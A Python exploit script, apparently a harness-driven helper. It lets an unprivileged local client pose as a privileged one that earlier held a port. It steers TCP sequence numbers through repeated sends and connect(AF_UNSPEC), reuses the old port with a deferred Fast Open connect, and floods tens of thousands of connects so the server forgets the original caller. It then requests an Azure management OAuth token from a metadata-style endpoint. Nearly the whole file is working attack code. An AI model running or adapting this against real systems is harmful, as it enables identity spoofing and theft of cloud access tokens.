# SPDX-License-Identifier: MIT
"""note_thief.py PORT: a client without a privilege that wants to be taken for the one that had its own port before.

What the kernel notes of a connection has addresses and the first sequence number, and a client can have both again: it
binds the port, and chooses the number. After connect(AF_UNSPEC) the next connect() of a socket goes on from where the last
one ended. Told "prepare SEQUENCE PORT", it makes such a socket, and has its own deferred connect() forgotten in a flood of
others; told "go", it asks, and prints the status.
"""

import ctypes
import socket
import struct
import sys
import threading

TCP_SAVE_SYN, TCP_SAVED_SYN, TCP_FASTOPEN_CONNECT, TCP_FASTOPEN_NO_COOKIE = 27, 28, 30, 34
ALL = 1 << 32
FORGOTTEN = 70_000  # the table of who dialled has half as many entries
AT_ONCE = 400
FINE_BUFFER, COARSE_BUFFER = 8192, 1 << 20
STEP = 8195  # by which the sequence goes on with FINE_BUFFER, besides what was sent
LIBC = ctypes.CDLL(None)
SERVER = ("127.0.0.1", int(sys.argv[1]))
REQUEST = (
    b"GET /oauth2/token?resource=https%3A%2F%2Fmanagement.azure.com%2F HTTP/1.1\r\n"
    b"Host: localhost\r\nMetadata: true\r\nConnection: close\r\n\r\n"
)


def listen(buffer):
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
    listener.setsockopt(socket.IPPROTO_TCP, TCP_SAVE_SYN, 1)
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    return listener


def sequence_of(accepted):
    syn = accepted.getsockopt(socket.IPPROTO_TCP, TCP_SAVED_SYN, 256)
    return struct.unpack_from("!I", syn, (syn[0] & 15) * 4 + 4)[0]


def connect(client, listener):
    """The other end, and the first sequence number."""
    client.connect(listener.getsockname())
    accepted, _ = listener.accept()
    return accepted, sequence_of(accepted)


def send(client, accepted, size):
    def drain():
        left, buffer = size, bytearray(1 << 18)
        while left:
            left -= accepted.recv_into(buffer)

    reader = threading.Thread(target=drain)
    reader.start()
    client.sendall(bytes(size))
    reader.join()


def disconnect(client, accepted):
    assert LIBC.connect(client.fileno(), struct.pack("=H14x", socket.AF_UNSPEC), 16) == 0
    accepted.close()


def client_that_goes_on_at(wanted):
    coarse, fine = listen(COARSE_BUFFER), listen(FINE_BUFFER)
    while True:
        client = socket.socket()
        accepted, sequence = connect(client, coarse)
        room = (wanted - sequence) % ALL
        if 5_000_000 < room < 200_000_000:
            break
        client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("=ii", 1, 0))
        client.close()
        accepted.close()
    send(client, accepted, room - 4_000_000)
    disconnect(client, accepted)
    accepted, sequence = connect(client, fine)
    send(client, accepted, (wanted - sequence) % ALL - STEP)
    disconnect(client, accepted)
    return client


def connect_deferred(client):
    """Nothing is sent so far."""
    client.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)
    client.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_NO_COOKIE, 1)
    client.connect(SERVER)
    return client


def be_forgotten():
    for _ in range(FORGOTTEN // AT_ONCE):
        others = [connect_deferred(socket.socket()) for _ in range(AT_ONCE)]
        for other in others:
            other.close()


def main():
    print("ready", flush=True)
    for line in sys.stdin:
        words = line.split()
        if words[0] == "prepare":
            client = client_that_goes_on_at(int(words[1]))
            client.bind(("127.0.0.1", int(words[2])))
            connect_deferred(client)
            be_forgotten()
            print("prepared", flush=True)
        else:
            client.sendall(REQUEST)
            print(client.makefile("rb").readline().split()[1].decode(), flush=True)


main()
